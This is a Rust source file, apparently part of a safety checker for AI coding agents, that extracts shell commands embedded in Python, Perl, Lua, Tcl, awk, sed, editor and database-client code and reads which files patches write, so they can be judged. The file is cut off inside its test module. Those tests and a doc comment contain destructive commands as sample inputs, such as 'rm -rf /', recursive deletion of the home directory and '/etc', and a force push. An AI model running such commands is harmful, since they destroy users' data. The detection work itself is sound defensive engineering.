//! Shell commands embedded in code for other interpreters (best effort).
//!
//! `python -c 'import os; os.system("rm -rf /")'` runs a shell command that
//! the shell parser only sees as a string. This module returns the
//! equivalent shell text: the calls that run commands or remove trees
//! (`system`, `subprocess.run`, `os.execvp`, `shutil.rmtree`, …, read by
//! [`check_catalog::spawn`], a computed value there an unknown one), Perl
//! and Ruby backquotes and `qx`, and the commands of awk, Tcl, Lua,
//! editors, patches, sed and database clients.

/// Longest code scanned for commands, in bytes; longer inline code
/// escalates (`shell.too-long`) rather than going unread.
pub const MAX_CODE: usize = 64 * 1024;

/// The most commands judged from one piece of code. Every finder here
/// returns at most [`KEPT`], one more, so that a caller knows when some
/// were left unjudged and escalates (`shell.too-long`) instead of
/// allowing what it did not read.
pub const MAX_COMMANDS: usize = 32;

/// How many commands a finder keeps: [`MAX_COMMANDS`] and one more.
const KEPT: usize = MAX_COMMANDS + 1;

/// Drops repeated commands (the same text is judged once, so repeats
/// cannot fill the count) and keeps the first [`KEPT`].
fn keep_distinct(found: &mut Vec<String>) {
    let mut seen = std::collections::HashSet::new();
    found.retain(|c| seen.insert(c.clone()));
    found.truncate(KEPT);
}

/// Shell commands found in `code`, as shell text. `backticks`: the
/// language runs backquoted text as a command (Perl, Ruby, PHP), rather
/// than using it for strings (JavaScript).
pub fn shell_commands(code: &str, backticks: bool) -> Vec<String> {
    let mut found = Vec::new();
    if code.len() > MAX_CODE {
        return found;
    }
    // Calls that run commands or remove trees, in every language.
    found.extend(check_catalog::spawn::code_commands(code));
    // Perl / Ruby backquotes, qx and %x.
    for (open, close) in [("qx(", ')'), ("qx{", '}'), ("%x(", ')'), ("%x{", '}')] {
        for (at, _) in code.match_indices(open) {
            let rest = &code[at + open.len()..];
            if let Some(end) = rest.find(close) {
                found.push(rest[..end].to_string());
            }
        }
    }
    let ticks: Vec<&str> = code.split('`').collect();
    if backticks && ticks.len() >= 3 {
        for inner in ticks.iter().skip(1).step_by(2).take(KEPT) {
            found.push(inner.to_string());
        }
    }
    keep_distinct(&mut found);
    found
}

/// Shell commands a Lua program runs: `os.execute(TEXT)`,
/// `os.execute "TEXT"`, `io.popen(TEXT)`, with `'…'`, `"…"` or `[[…]]`
/// strings. A string joined with a computed value (`"rm -rf " .. dir`)
/// gets an unknown variable in its place; a computed command is `eval` of
/// an unknown value.
pub fn lua_commands(code: &str) -> Vec<String> {
    let mut found = Vec::new();
    if code.len() > MAX_CODE {
        return found;
    }
    // The index forms (`os["execute"]`) too; another index of `os` or
    // `io`, or a name of either held in a string anywhere else, is a
    // computed call (`os[n]`, `os["exec" .. "ute"]`) (review s9 G3).
    let names = [
        "os.execute",
        "io.popen",
        "os[\"execute\"]",
        "os['execute']",
        "io[\"popen\"]",
        "io['popen']",
    ];
    let indexed = [
        "\"execute\"",
        "'execute'",
        "\"popen\"",
        "'popen'",
        "[[execute]]",
        "[[popen]]",
    ];
    // `os[KEY]` or `io[KEY]` with a key other than a name read here is a
    // computed call too.
    let computed_index = ["os[", "io["].iter().any(|table| {
        code.match_indices(table).any(|(at, _)| {
            let word_before = code[..at]
                .chars()
                .next_back()
                .is_some_and(|c| c.is_alphanumeric() || c == '_');
            !word_before && !names.iter().any(|n| code[at..].starts_with(n))
        })
    });
    if computed_index
        || indexed.iter().any(|n| {
            code.match_indices(n)
                .any(|(at, _)| !code[..at].ends_with("os[") && !code[..at].ends_with("io["))
        })
    {
        found.push("eval \"${LUA_VALUE}\"".into());
    }
    for name in names {
        for (at, _) in code.match_indices(name) {
            let rest = code[at + name.len()..].trim_start();
            let rest = rest.strip_prefix('(').unwrap_or(rest).trim_start();
            if rest.starts_with(')') {
                // `os.execute()`: asks whether a shell exists.
                continue;
            }
            match lua_string(rest).or_else(|| string_literal(rest)) {
                Some((text, after)) => {
                    if after.trim_start().starts_with("..") {
                        found.push(format!("{text}\"${{LUA_VALUE}}\""));
                    } else {
                        found.push(text);
                    }
                }
                None => found.push("eval \"${LUA_VALUE}\"".into()),
            }
        }
    }
    keep_distinct(&mut found);
    found
}

/// A leading Lua long string (`[[…]]`, `[==[…]==]`): its content and the
/// text after it.
fn lua_string(s: &str) -> Option<(String, &str)> {
    let rest = s.strip_prefix('[')?;
    let level = rest.len() - rest.trim_start_matches('=').len();
    let body = rest[level..].strip_prefix('[')?;
    let close = format!("]{}]", "=".repeat(level));
    let end = body.find(&close)?;
    let text = body[..end].strip_prefix('\n').unwrap_or(&body[..end]);
    Some((text.to_string(), &body[end + close.len()..]))
}

/// Shell commands a Tcl program runs (`tclsh`, `wish`, `expect`): `exec
/// CMD ARGS…` and `open "|CMD ARGS…"` as an argv, and for `expect`
/// (`expect: true`) also `spawn CMD ARGS…` and `system TEXT` (run by
/// `sh`). Braced words are read as scripts too (`catch {exec …}`, `if`,
/// `proc` bodies), and `[…]` substitutions as nested scripts; a
/// substitution or variable in a word is an unknown value there
/// (`$env(HOME)` is the home).
pub fn tcl_commands(code: &str, expect: bool) -> Vec<String> {
    let mut found = Vec::new();
    if code.len() <= MAX_CODE {
        let chars: Vec<char> = code.chars().collect();
        tcl_script(&chars, expect, &mut found, 0);
    }
    keep_distinct(&mut found);
    found
}

/// One word of a Tcl command: as shell text, and its raw text.
struct TclWord {
    shell: String,
    raw: String,
}

fn tcl_script(c: &[char], expect: bool, found: &mut Vec<String>, depth: u32) {
    if depth > 8 || found.len() >= KEPT {
        return;
    }
    let mut i = 0;
    while i < c.len() {
        // Between commands.
        while i < c.len() && (c[i].is_whitespace() || c[i] == ';') {
            i += 1;
        }
        if i < c.len() && c[i] == '#' {
            while i < c.len() && c[i] != '\n' {
                i += 1;
            }
            continue;
        }
        let mut words: Vec<TclWord> = Vec::new();
        while i < c.len() {
            while i < c.len() && (c[i] == ' ' || c[i] == '\t' || c[i] == '\r') {
                i += 1;
            }
            if i + 1 < c.len() && c[i] == '\\' && c[i + 1] == '\n' {
                i += 2;
                continue;
            }
            if i >= c.len() || c[i] == '\n' || c[i] == ';' {
                break;
            }
            if c[i] == '{' {
                let end = tcl_close(c, i, '{', '}');
                let inner: String = c[i + 1..end.min(c.len())].iter().collect();
                tcl_script(&c[i + 1..end.min(c.len())], expect, found, depth + 1);
                words.push(TclWord {
                    shell: crate::shell_quote(&inner),
                    raw: inner,
                });
                i = end + 1;
            } else if c[i] == '"' {
                let mut j = i + 1;
                while j < c.len() && c[j] != '"' {
                    if c[j] == '\\' {
                        j += 1;
                    } else if c[j] == '[' {
                        j = tcl_close(c, j, '[', ']');
                    }
                    j += 1;
                }
                let end = j.min(c.len());
                words.push(tcl_subst(&c[i + 1..end], expect, found, depth));
                i = end + 1;
            } else {
                let mut j = i;
                while j < c.len() && !c[j].is_whitespace() && c[j] != ';' {
                    if c[j] == '\\' {
                        j += 1;
                    } else if c[j] == '[' {
                        j = tcl_close(c, j, '[', ']');
                    }
                    j += 1;
                }
                let end = j.min(c.len());
                words.push(tcl_subst(&c[i..end], expect, found, depth));
                i = end;
            }
        }
        tcl_command(&words, expect, found, depth);
    }
}

/// The index of the bracket closing the one at `c[i]` (or the end).
fn tcl_close(c: &[char], i: usize, open: char, close: char) -> usize {
    let mut level = 0;
    let mut j = i;
    while j < c.len() {
        if c[j] == '\\' {
            j += 2;
            continue;
        }
        if c[j] == open {
            level += 1;
        } else if c[j] == close {
            level -= 1;
            if level == 0 {
                return j;
            }
        }
        j += 1;
    }
    c.len()
}

/// A word with Tcl's substitutions: `[…]` (a nested script, judged, an
/// unknown value here), `$env(HOME)` (the home), other variables
/// (unknown), backslash escapes.
fn tcl_subst(c: &[char], expect: bool, found: &mut Vec<String>, depth: u32) -> TclWord {
    let raw: String = c.iter().collect();
    let mut shell = String::new();
    let mut lit = String::new();
    let flush = |lit: &mut String, shell: &mut String| {
        if !lit.is_empty() {
            shell.push_str(&crate::shell_quote(lit));
            lit.clear();
        }
    };
    let mut i = 0;
    if c.first() == Some(&'~') {
        shell.push('~');
        i = 1;
    }
    while i < c.len() {
        match c[i] {
            '\\' => {
                if let Some(n) = c.get(i + 1) {
                    lit.push(match n {
                        'n' => '\n',
                        't' => '\t',
                        o => *o,
                    });
                }
                i += 2;
            }
            '[' => {
                let end = tcl_close(c, i, '[', ']');
                tcl_script(&c[i + 1..end.min(c.len())], expect, found, depth + 1);
                flush(&mut lit, &mut shell);
                shell.push_str("\"${TCL_SUBST}\"");
                i = end + 1;
            }
            '$' => {
                let rest: String = c[i..].iter().collect();
                let home = ["$env(HOME)", "$::env(HOME)", "${env(HOME)}"]
                    .iter()
                    .find(|h| rest.starts_with(*h));
                flush(&mut lit, &mut shell);
                if let Some(h) = home {
                    shell.push_str("\"$HOME\"");
                    i += h.chars().count();
                    continue;
                }
                shell.push_str("\"${TCL_VAR}\"");
                i += 1;
                if c.get(i) == Some(&'{') {
                    i = tcl_close(c, i, '{', '}') + 1;
                } else {
                    while i < c.len() && (c[i].is_alphanumeric() || c[i] == '_' || c[i] == ':') {
                        i += 1;
                    }
                    if c.get(i) == Some(&'(') {
                        i = tcl_close(c, i, '(', ')') + 1;
                    }
                }
            }
            ch => {
                lit.push(ch);
                i += 1;
            }
        }
    }
    flush(&mut lit, &mut shell);
    TclWord { shell, raw }
}

/// The shell command a Tcl command runs, if it runs one.
fn tcl_command(words: &[TclWord], expect: bool, found: &mut Vec<String>, depth: u32) {
    let Some(first) = words.first() else {
        return;
    };
    let name = first.raw.trim_start_matches("::");
    let argv = |words: &[TclWord], value_opts: &[&str]| -> String {
        let mut i = 0;
        while let Some(w) = words.get(i) {
            if w.raw == "--" {
                i += 1;
                break;
            }
            if !w.raw.starts_with('-') {
                break;
            }
            i += if value_opts.contains(&w.raw.as_str()) {
                2
            } else {
                1
            };
        }
        let mut out = Vec::new();
        for w in words.get(i..).unwrap_or(&[]) {
            match w.raw.as_str() {
                "&" => {}
                "|" | "|&" | "<" | ">" | ">>" | "2>" | "2>>" | ">&" | ">>&" => {
                    out.push(w.raw.clone())
                }
                "2>@1" | "2>@stdout" => out.push("2>&1".into()),
                r if r.contains('@') && r.len() <= 3 => {}
                _ => out.push(w.shell.clone()),
            }
        }
        out.join(" ")
    };
    let rest = &words[1..];
    let cmd = match name {
        "exec" => argv(rest, &[]),
        "spawn" | "exp_spawn" if expect => argv(rest, &["-open", "-leaveopen", "-ignore"]),
        "system" | "exp_system" if expect => rest
            .iter()
            .map(|w| w.raw.as_str())
            .collect::<Vec<_>>()
            .join(" "),
        // `file delete -force PATH…` removes trees (review s9 G3).
        "file" if rest.first().is_some_and(|w| w.raw == "delete") => {
            let mut force = false;
            let mut paths = Vec::new();
            let mut options = true;
            for w in &rest[1..] {
                match w.raw.as_str() {
                    "-force" if options => force = true,
                    "--" if options => options = false,
                    _ => {
                        options = false;
                        paths.push(w.shell.clone());
                    }
                }
            }
            if paths.is_empty() {
                return;
            }
            format!(
                "rm {}-- {}",
                if force { "-rf " } else { "" },
                paths.join(" ")
            )
        }
        "open" => {
            if let Some(pipe) = rest.first().and_then(|w| w.raw.strip_prefix('|')) {
                let chars: Vec<char> = format!("exec {pipe}").chars().collect();
                tcl_script(&chars, expect, found, depth + 1);
            }
            return;
        }
        _ => return,
    };
    if !cmd.trim().is_empty() {
        found.push(cmd);
    }
}

/// A leading `'…'` or `"…"` literal (optionally with a one-letter prefix
/// such as `f`, `r`, `b`): its content with backslash escapes undone, and
/// the text after it.
fn string_literal(s: &str) -> Option<(String, &str)> {
    let s = s.strip_prefix(['f', 'r', 'b', 'u']).unwrap_or(s);
    let quote = s.chars().next().filter(|c| *c == '\'' || *c == '"')?;
    let mut out = String::new();
    let mut escaped = false;
    for (i, c) in s[1..].char_indices() {
        if escaped {
            out.push(c);
            escaped = false;
        } else if c == '\\' {
            escaped = true;
        } else if c == quote {
            return Some((out, &s[1 + i + 1..]));
        } else {
            out.push(c);
        }
    }
    None
}

/// The words of inline code (an interpreter's `-c`/`-e` program, an
/// editor's commands, an awk program) that may name a file: the code split
/// at white space, quotes and punctuation that a path does not hold, with
/// the usual spellings of the home directory (`$HOME`, `${HOME}`,
/// `os.homedir()`, `Path.home()`, …) turned into `~`, each word once. The
/// analysis cannot read such code; a guarded file it names is judged as a
/// file the code may write. Linear in the code's length, with no cap (a
/// cap would let padding hide a name).
pub fn path_tokens(code: &str) -> Vec<String> {
    let mut text = code.replace("${HOME}", "~").replace("$HOME", "~");
    for e in check_catalog::spawn::HOME_EXPRESSIONS {
        if text.contains(e) {
            text = text.replace(e, "~");
        }
    }
    let mut found: Vec<String> = Vec::new();
    let mut seen = std::collections::HashSet::new();
    for word in
        text.split(|c: char| c.is_whitespace() || "'\"`(),;[]{}<>|&=+*!?:@#$%^\\".contains(c))
    {
        // A word ends with a statement's dot or comma at times (`w x.`).
        let word = word.trim_end_matches('.');
        if word.is_empty() || word.len() > 4096 || !seen.insert(word) {
            continue;
        }
        found.push(word.to_string());
    }
    found
}

/// Shell commands in an editor's commands (vim `-c`/`+`/`--cmd`, ex and
/// ed scripts, `less +`): `!cmd`, `r !cmd`, `w !cmd`, `e !cmd` (ed), vim's
/// `:terminal cmd`, and the literal arguments of `system(…)`-like calls.
pub fn editor_shell_commands(script: &str) -> Vec<String> {
    let mut found = Vec::new();
    if script.len() > MAX_CODE {
        return found;
    }
    for line in script.lines() {
        // vim and ed separate commands with `|`, but a shell command takes
        // the rest of its line, `|` included.
        let mut at = 0;
        while at <= line.len() {
            let end = line[at..].find('|').map_or(line.len(), |i| at + i);
            if let Some(start) = editor_shell_start(&line[at..end]) {
                let sh = line[at + start..].trim();
                if !sh.is_empty() {
                    found.push(sh.to_string());
                }
                break;
            }
            at = end + 1;
        }
    }
    found.extend(shell_commands(script, false));
    keep_distinct(&mut found);
    found
}

/// Where the shell command of one editor command starts (its offset in
/// `piece`), when it runs one.
fn editor_shell_start(piece: &str) -> Option<usize> {
    // A range and the colon before a command (`:`, `%`, `1,$`, `.`).
    let mut cmd = piece.trim_start_matches(|c: char| {
        c.is_whitespace() || c.is_ascii_digit() || ":%$.,;'<>".contains(c)
    });
    for prefix in ["silent!", "silent", "execute", "exe"] {
        if let Some(rest) = cmd.strip_prefix(prefix) {
            cmd = rest.trim_start();
        }
    }
    let offset = |rest: &str| piece.len() - rest.len();
    if let Some(rest) = cmd.strip_prefix('!') {
        return Some(offset(rest));
    }
    let split = cmd
        .find(|c: char| !c.is_ascii_alphabetic())
        .unwrap_or(cmd.len());
    let (word, rest) = cmd.split_at(split);
    let sh = match word {
        // `:r!cmd`, `:r !cmd`: the output of cmd is read in.
        "r" | "read" => rest.trim_start().strip_prefix('!'),
        // `w !cmd`, `e !cmd` (a space: `w!` forces a write).
        "w" | "write" | "e" | "edit" | "W" | "E" => rest
            .strip_prefix(char::is_whitespace)
            .and_then(|r| r.trim_start().strip_prefix('!')),
        "ter" | "term" | "terminal" => Some(rest),
        _ => None,
    }?;
    Some(offset(sh))
}

/// Commands an awk program runs through pipes: `print … | "cmd"`,
/// `"cmd" | getline` (besides `system("cmd")`, see [`shell_commands`]).
///
/// Property (review s23 V10): a pipe's command side is read only when it
/// is ONE string literal standing alone (`| "sort" ;`, `"id" | getline`);
/// any other command side (`| "s" "h"`, `| c`, `x "sh" | getline`) is a
/// computed command and given as `eval "${AWK_VALUE}"`, which is held.
/// The text printed into a shell is read when it is one literal right
/// after `print`/`printf`; otherwise it is computed, and held likewise.
/// `|` inside strings, regular expressions and comments is no pipe.
pub fn awk_pipe_commands(program: &str) -> Vec<String> {
    let mut found = Vec::new();
    if program.len() > MAX_CODE {
        return found;
    }
    const COMPUTED: &str = "eval \"${AWK_VALUE}\"";
    for at in awk_pipes(program) {
        let before = program[..at].trim_end();
        // gawk's coprocess `|&` is a pipe too (review s9 G3).
        let after = program[at + 1..]
            .strip_prefix('&')
            .unwrap_or(&program[at + 1..])
            .trim_start();
        if after.starts_with("getline") {
            // `"cmd" | getline`, `"cmd" |& getline`.
            match awk_last_literal(before) {
                Some((cmd, lead)) if awk_boundary(lead) => found.push(cmd),
                _ => found.push(COMPUTED.into()),
            }
        } else {
            // `print "text" | "cmd"`: cmd reads the text (a shell runs it).
            let cmd = awk_string(after)
                .filter(|(_, rest)| awk_ends_expression(rest))
                .map(|(s, _)| s);
            let Some(s) = cmd else {
                found.push(COMPUTED.into());
                continue;
            };
            let printed = awk_last_literal(before).filter(|(_, lead)| {
                let lead = lead.trim_end().trim_end_matches('(').trim_end();
                lead.ends_with("print") || lead.ends_with("printf")
            });
            match printed {
                Some((p, _)) => {
                    found.push(format!("printf '%s\\n' {} | {s}", crate::shell_quote(&p)))
                }
                // Computed text into a shell is a computed command.
                None if ["sh", "bash", "zsh", "dash", "ksh", "ash", "busybox"]
                    .contains(&s.split_whitespace().next().unwrap_or("")) =>
                {
                    found.push(COMPUTED.into())
                }
                None => found.push(s),
            }
        }
        if found.len() >= KEPT {
            break;
        }
    }
    found
}

/// The offsets of an awk program's pipe operators (`|`, `|&`): outside
/// string literals, regular expressions and comments, and not `||`.
fn awk_pipes(program: &str) -> Vec<usize> {
    let bytes = program.as_bytes();
    let mut pipes = Vec::new();
    let mut i = 0;
    // The last significant byte outside literals: a `/` after an operand
    // divides, any other `/` opens a regular expression.
    let mut prev: u8 = b';';
    while i < bytes.len() {
        let c = bytes[i];
        match c {
            b'"' => {
                i += 1;
                while i < bytes.len() && bytes[i] != b'"' {
                    i += if bytes[i] == b'\\' { 2 } else { 1 };
                }
                prev = b'"';
            }
            b'/' if !(prev.is_ascii_alphanumeric() || b"_)]$\"".contains(&prev)) => {
                i += 1;
                while i < bytes.len() && bytes[i] != b'/' && bytes[i] != b'\n' {
                    i += if bytes[i] == b'\\' { 2 } else { 1 };
                }
                prev = b'"';
            }
            b'#' => {
                while i < bytes.len() && bytes[i] != b'\n' {
                    i += 1;
                }
                prev = b';';
                continue;
            }
            b'|' if bytes.get(i + 1) == Some(&b'|') => {
                i += 2;
                prev = b'|';
                continue;
            }
            b'|' => {
                pipes.push(i);
                prev = b'|';
            }
            c if c.is_ascii_whitespace() => {
                if c == b'\n' {
                    prev = b';';
                }
            }
            c => prev = c,
        }
        i += 1;
    }
    pipes
}

/// The string literal `text` ends with (its value) and the text before
/// it, when `text` ends with one.
fn awk_last_literal(text: &str) -> Option<(String, &str)> {
    let body = text.strip_suffix('"')?;
    // The opening quote: the last `"` not escaped by a backslash.
    let bytes = body.as_bytes();
    let mut k = body.len();
    while let Some(q) = body[..k].rfind('"') {
        let slashes = bytes[..q].iter().rev().take_while(|b| **b == b'\\').count();
        if slashes % 2 == 0 {
            let (lit, rest) = awk_string(&text[q..])?;
            return rest.is_empty().then_some((lit, &text[..q]));
        }
        k = q;
    }
    None
}

/// An awk string literal at the start of `s`: its value and the text
/// after it. `None` when `s` does not start with one, or when it holds an
/// escape other than `\n`, `\t`, `\"`, `\\`, `\/` (octal and other
/// escapes spell any text; such a literal is not read).
fn awk_string(s: &str) -> Option<(String, &str)> {
    let body = s.strip_prefix('"')?;
    let mut out = String::new();
    let mut chars = body.char_indices();
    while let Some((i, c)) = chars.next() {
        match c {
            '"' => return Some((out, &body[i + 1..])),
            '\\' => match chars.next()?.1 {
                'n' => out.push('\n'),
                't' => out.push('\t'),
                e @ ('"' | '\\' | '/') => out.push(e),
                _ => return None,
            },
            c => out.push(c),
        }
    }
    None
}

/// Whether the text before a literal ends a statement or an operator, so
/// the literal is not concatenated to an earlier value.
fn awk_boundary(lead: &str) -> bool {
    let lead = lead.trim_end();
    lead.is_empty()
        || lead.ends_with(['{', ';', '(', ',', '=', '!', '&', '|', '\n'])
        || lead.ends_with("do")
        || lead.ends_with("else")
}

/// Whether what follows a pipe's command literal ends the expression
/// (nothing is concatenated to the literal).
fn awk_ends_expression(rest: &str) -> bool {
    let rest = rest.trim_start_matches([' ', '\t']);
    rest.is_empty()
        || rest.starts_with([';', '}', '\n', ')', ','])
        || rest.starts_with("&&")
        || rest.starts_with("||")
}

/// What a patch does to one file.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum PatchOp {
    /// A new file.
    Add,
    /// A changed file (or the new name of a moved one).
    Update,
    /// A deleted file.
    Delete,
}

/// One file a patch writes: what it does, the path as written in the
/// patch, and the lines it adds (without their `+`).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PatchFile {
    /// Add, update or delete.
    pub op: PatchOp,
    /// The path, as the patch names it (relative to where it is applied).
    pub path: String,
    /// The lines the patch adds to the file, joined by newlines.
    pub added: String,
}

/// The files a patch writes: Codex's `apply_patch` format (`*** Add
/// File: P`, `*** Update File: P`, `*** Delete File: P`, `*** Move to:
/// P`) and unified diffs (`+++ b/P`, `--- a/P` of a deletion, `diff --git
/// a/P b/Q`, `rename to`, `copy to`). `strip`: the leading components
/// removed from unified-diff paths (`-p1` is 1; `None`: the `a/`/`b/`
/// prefixes git writes are removed when present).
pub fn patch_files(text: &str, strip: Option<usize>) -> Vec<PatchFile> {
    let mut files: Vec<PatchFile> = Vec::new();
    // Names as `git apply` and GNU `patch` read them: C-quoted names
    // decoded (review s25 R9).
    let strip_name = |p: String| -> String {
        match strip {
            Some(n) => p.splitn(n + 1, '/').nth(n).unwrap_or(&p).to_string(),
            None => p
                .strip_prefix("a/")
                .or_else(|| p.strip_prefix("b/"))
                .unwrap_or(&p)
                .to_string(),
        }
    };
    let unified = |p: &str| -> Option<String> {
        let p = check_catalog::patch::diff_name(p)?;
        (p != "/dev/null").then(|| strip_name(p))
    };
    let mut deleting_from: Option<String> = None;
    // A context diff's `*** OLD` name, waiting for its `--- NEW` line
    // (review s25 R8: GNU `patch` reads context diffs too).
    let mut context_old: Option<String> = None;
    for line in text.lines() {
        let line = line.trim_end_matches('\r');
        // GNU `patch` may patch the file the old name (`---`, `*** ` of a
        // context diff) or an `Index:` line names, whichever exists: each
        // is written.
        let mut also: Option<String> = None;
        // Codex's headers, read trimmed as Codex reads them (review s25
        // R7).
        let op_path = if let Some((h, p)) = check_catalog::patch::codex_header(line) {
            use check_catalog::patch::CodexHeader as H;
            let op = match h {
                H::Add | H::MoveTo => PatchOp::Add,
                H::Update => PatchOp::Update,
                H::Delete => PatchOp::Delete,
            };
            Some((op, p.to_string()))
        } else if let Some(p) = line.strip_prefix("*** ").filter(|p| {
            !p.trim_end().ends_with("****")
                && !["Begin Patch", "End Patch", "End of File"].contains(&p.trim())
        }) {
            context_old = unified(p);
            None
        } else if let Some(p) = line.strip_prefix("--- ") {
            if p.trim_end().ends_with("----") {
                None
            } else if let Some(old) = context_old.take() {
                also = Some(old);
                unified(p).map(|p| (PatchOp::Update, p))
            } else {
                deleting_from = unified(p);
                None
            }
        } else if let Some(p) = line.strip_prefix("Index: ") {
            check_catalog::patch::diff_name(p).map(|p| (PatchOp::Update, strip_name(p)))
        } else if let Some(p) = line.strip_prefix("+++ ") {
            match unified(p) {
                Some(p) => {
                    also = deleting_from.take().filter(|old| *old != p);
                    Some((PatchOp::Update, p))
                }
                // `+++ /dev/null`: the `---` file is deleted.
                None => deleting_from.take().map(|d| (PatchOp::Delete, d)),
            }
        } else if let Some(rest) = line.strip_prefix("diff --git ") {
            // Both names: the second is written, the first may be removed.
            check_catalog::patch::git_diff_names(rest)
                .map(|(_, b)| (PatchOp::Update, strip_name(b)))
        } else if let Some(p) = line
            .strip_prefix("rename to ")
            .or_else(|| line.strip_prefix("copy to "))
        {
            check_catalog::patch::diff_name(p).map(|p| (PatchOp::Add, p))
        } else if let Some(p) = line.strip_prefix("rename from ") {
            check_catalog::patch::diff_name(p).map(|p| (PatchOp::Delete, p))
        } else {
            if let Some(added) = line.strip_prefix('+')
                && !line.starts_with("+++")
                && let Some(last) = files.last_mut()
            {
                last.added.push_str(added);
                last.added.push('\n');
            }
            None
        };
        let found = also
            .map(|p| (PatchOp::Update, p))
            .into_iter()
            .chain(op_path)
            .filter(|(_, path)| !path.is_empty());
        for (op, path) in found {
            if files.len() >= 256 {
                return files;
            }
            files.push(PatchFile {
                op,
                path,
                added: String::new(),
            });
        }
    }
    files
}

/// What a sed script does besides editing text: the shell commands it runs
/// (`e CMD`, `s/…/CMD/e`), the files it writes (`w FILE`, `s/…/…/w FILE`),
/// and whether it runs text only known at run time (`e` alone, `s///e`
/// with a computed replacement).
#[derive(Debug, Default, PartialEq, Eq)]
pub struct SedEffects {
    /// Shell commands run.
    pub commands: Vec<String>,
    /// Files written.
    pub writes: Vec<String>,
    /// Runs the pattern space or a computed text as a command.
    pub runs_unknown: bool,
}

/// The effects of a sed script (GNU sed's commands).
pub fn sed_effects(script: &str) -> SedEffects {
    let mut fx = SedEffects::default();
    let chars: Vec<char> = script.chars().collect();
    let mut i = 0;
    let to_eol = |i: &mut usize| -> String {
        let start = *i;
        while *i < chars.len() && chars[*i] != '\n' {
            *i += 1;
        }
        chars[start..*i]
            .iter()
            .collect::<String>()
            .trim()
            .to_string()
    };
    // Text up to an unescaped `d` (the delimiter), from `i`; `i` ends past it.
    let delimited = |i: &mut usize, d: char| -> String {
        let mut out = String::new();
        while *i < chars.len() && chars[*i] != d {
            if chars[*i] == '\\' && *i + 1 < chars.len() {
                out.push('\\');
                *i += 1;
            }
            out.push(chars[*i]);
            *i += 1;
        }
        *i += 1;
        out
    };
    let mut guard = 0;
    while i < chars.len() {
        guard += 1;
        if guard > 4096 {
            fx.runs_unknown = true;
            break;
        }
        let c = chars[i];
        if c.is_whitespace()
            || matches!(c, ';' | '{' | '}' | '!' | ',' | '$' | '+' | '~')
            || c.is_ascii_digit()
        {
            i += 1;
            continue;
        }
        match c {
            // Addresses: `/re/`, `\cREc`.
            '/' => {
                i += 1;
                delimited(&mut i, '/');
            }
            '\\' if i + 1 < chars.len() => {
                let d = chars[i + 1];
                i += 2;
                delimited(&mut i, d);
            }
            '#' | 'a' | 'i' | 'c' | 'r' | 'R' | ':' => {
                i += 1;
                to_eol(&mut i);
            }
            'b' | 't' | 'T' => {
                i += 1;
                while i < chars.len() && !matches!(chars[i], ';' | '\n' | '}') {
                    i += 1;
                }
            }
            'e' => {
                i += 1;
                let cmd = to_eol(&mut i);
                if cmd.is_empty() {
                    fx.runs_unknown = true;
                } else {
                    fx.commands.push(cmd);
                }
            }
            'w' | 'W' => {
                i += 1;
                let file = to_eol(&mut i);
                if !file.is_empty() {
                    fx.writes.push(file);
                }
            }
            'y' if i + 1 < chars.len() => {
                let d = chars[i + 1];
                i += 2;
                delimited(&mut i, d);
                delimited(&mut i, d);
            }
            's' if i + 1 < chars.len() => {
                let d = chars[i + 1];
                i += 2;
                let pattern = delimited(&mut i, d);
                let replacement = delimited(&mut i, d);
                let mut flags = String::new();
                while i < chars.len() && !matches!(chars[i], ';' | '\n' | '}') {
                    if chars[i] == 'w' {
                        i += 1;
                        let file = to_eol(&mut i);
                        if !file.is_empty() {
                            fx.writes.push(file);
                        }
                        break;
                    }
                    flags.push(chars[i]);
                    i += 1;
                }
                if flags.contains('e') {
                    // `e` runs the whole pattern space after the
                    // substitution (review s25 S25: `s/^/exec /e` runs
                    // `exec LINE`): the replacement alone only when the
                    // pattern matches the whole line.
                    let whole = matches!(pattern.as_str(), ".*" | "^.*" | ".*$" | "^.*$");
                    if replacement.contains(['\\', '&']) || !whole {
                        fx.runs_unknown = true;
                    }
                    if !replacement.contains(['\\', '&']) {
                        fx.commands.push(replacement);
                    }
                }
            }
            _ => i += 1,
        }
        if fx.commands.len() + fx.writes.len() >= KEPT {
            break;
        }
    }
    fx
}

/// Shell commands in the commands of a database client: a sqlite3
/// `.shell`/`.system` line, a psql or mysql `\! CMD`, a mysql `system
/// CMD` (gdb's and lldb's commands: `crate::code::debugger`).
pub fn client_shell_commands(client: &str, text: &str) -> Vec<String> {
    let mut found = Vec::new();
    if text.len() > MAX_CODE {
        return found;
    }
    for line in text.lines() {
        // psql and mysql also take `\!` after other commands on a line.
        for piece in line.split(';') {
            let p = piece.trim();
            let cmd = match client {
                "sqlite3" | "sqlite" | "sqlcipher" | "litecli" => p
                    .strip_prefix(".shell")
                    .or_else(|| p.strip_prefix(".system")),
                "psql" => p.find("\\!").map(|at| &p[at + 2..]),
                "mysql" | "mariadb" => p
                    .find("\\!")
                    .map(|at| &p[at + 2..])
                    .or_else(|| p.strip_prefix("system ")),
                _ => None,
            };
            if let Some(c) = cmd.map(str::trim).filter(|c| !c.is_empty()) {
                // A psql `\!` command runs the rest of the line.
                let rest = if client == "psql" {
                    line[line.find(c).unwrap_or(0)..].trim()
                } else {
                    c
                };
                found.push(rest.to_string());
                break;
            }
        }
        if found.len() >= KEPT {
            break;
        }
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn finds_commands() {
        assert_eq!(
            shell_commands("import os; os.system('rm -rf /')", false),
            ["rm -rf /"]
        );
        assert_eq!(
            shell_commands(
                r#"import subprocess; subprocess.run(["git", "push", "-f", "origin", "main"])"#,
                false
            ),
            ["git push -f origin main"]
        );
        assert_eq!(
            shell_commands(r#"system("rm -rf \"$HOME\"")"#, false),
            [r#"rm -rf "$HOME""#]
        );
        assert_eq!(
            shell_commands("import shutil; shutil.rmtree('/etc')", false),
            ["rm -r -- /etc"]
        );
        assert_eq!(
            shell_commands(r#"require("fs").rmSync("/", {recursive: true})"#, false),
            ["rm -r -- /"]
        );
        assert!(shell_commands(r#"require("fs").rmSync("x.txt")"#, false).is_empty());
        assert_eq!(shell_commands("print `rm -rf ~`", true), ["rm -rf ~"]);
        assert_eq!(shell_commands("my $x = qx(ls /); ", false), ["ls /"]);
        assert!(shell_commands("myrun('x'); print('rm -rf /')", false).is_empty());
        assert!(shell_commands("console.log(`rm -rf /`)", false).is_empty());
        // A computed command is `eval` of an unknown value (review s9 G3).
        assert_eq!(
            shell_commands("os.system(cmd)", false),
            [r#"eval "${CODE_VALUE}""#]
        );
    }

    #[test]
